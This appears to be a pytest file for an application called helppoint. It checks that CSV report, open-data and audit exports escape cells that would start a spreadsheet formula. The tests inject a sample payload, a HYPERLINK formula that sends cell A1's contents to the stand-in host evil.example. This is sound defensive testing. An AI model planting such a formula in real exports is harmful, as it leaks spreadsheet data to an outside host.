"""Every CSV helppoint writes opens in a spreadsheet as data: a cell that would start a formula
is escaped with a leading quote (reports, open data, audit trail)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
from hypothesis import given
from hypothesis import strategies as st

from helppoint.domain.classification import Classification
from helppoint.domain.model import Role
from helppoint.services.safe_csv import FORMULA_STARTS, SafeCsvWriter, spreadsheet_cell
from helppoint.services.units import provision_unit
from tests.conftest import LiveServer
from tests.reports.history import incident
from tests.web.test_api import client

LINK = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
UNIT = "-HP-99"  # unit ids are letters, digits, "-", "_" and "."


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS[:-1]), cell


def test_reports_and_open_data_escape_a_unit_named_like_a_formula(live_server: LiveServer) -> None:
    uow = live_server.database.uow()
    with uow:
        provision_unit(uow, UNIT, LINK, "town-centre", 52.2371, -0.8935)
        opened = datetime(2026, 10, 9, 21, tzinfo=UTC)
        uow.incidents.add(incident(UNIT, opened, 20, Classification.CONCERN, False, 1))
        uow.commit()
    http = client(live_server, "sue", Role.SUPERVISOR)

    open_data = http.get("/api/reports/open-data.csv?from=2026-10&to=2026-10")
    assert open_data.status_code == 200
    rows = _rows(open_data.text)
    ours = next(r for r in rows if r[1] == "'" + UNIT)
    assert ours[2] == "'" + LINK
    assert ours[4] == "1"  # counts stay numbers
    _no_formula_cells(rows)

    monthly = http.get("/api/reports/monthly.csv?month=2026-10")
    rows = _rows(monthly.text)
    assert ["by_unit", "'" + UNIT, "1"] in rows
    _no_formula_cells(rows)


def test_the_audit_export_escapes_a_username_tried_at_sign_in(live_server: LiveServer) -> None:
    # Anyone can try to sign in, and a failed attempt is audited with the name typed.
    with httpx.Client(base_url=live_server.base_url, timeout=None) as anonymous:
        tried = anonymous.post("/api/login", json={"username": LINK, "password": "x"})
        assert tried.status_code == 401
    auditor = client(live_server, "audrey", Role.AUDITOR)
    exported = auditor.get("/api/audit/export", params={"format": "csv"})
    rows = _rows(exported.text)
    actors = [r[2] for r in rows[1:]]
    assert "'" + LINK.lower() in actors
    _no_formula_cells(rows)
    # The JSON export keeps every value exactly (to recompute hashes), and so does the CSV once
    # one leading quote is removed.
    entries = auditor.get("/api/audit/export", params={"format": "json"}).json()["entries"]
    assert [e["actor"] for e in entries][: len(actors)] == [
        a[1:] if a.startswith("'") else a for a in actors
    ]


@given(st.text(max_size=30))
def test_a_text_cell_never_starts_a_formula_and_the_escape_can_be_undone(value: str) -> None:
    cell = spreadsheet_cell(value)
    assert not cell.startswith(FORMULA_STARTS[:-1])
    assert (cell[1:] if cell.startswith("'") else cell) == value


@given(st.one_of(st.integers(), st.floats(allow_nan=False)))
def test_numbers_stay_numbers_negative_ones_included(value: float) -> None:
    assert spreadsheet_cell(value) == value


def test_the_writer_escapes_every_text_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", "+44 1604", "-x", "@x", "\t=x", "'=x", "ok", -3, 2.5])
    assert out.getvalue() == "'=1+1,'+44 1604,'-x,'@x,'\t=x,''=x,ok,-3,2.5\n"
